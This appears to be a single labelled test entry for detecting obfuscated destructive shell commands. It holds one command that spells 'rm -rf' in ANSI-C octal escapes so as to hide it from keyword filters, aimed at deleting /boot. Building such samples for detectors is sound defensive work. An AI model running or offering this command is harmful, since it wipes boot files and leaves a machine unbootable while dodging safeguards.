# description: Spells rm and -rf in ANSI-C octal escapes and deletes /boot.
# family: destruction
# obfuscated: yes
$'\162\155' $'\055\162\146' /boot
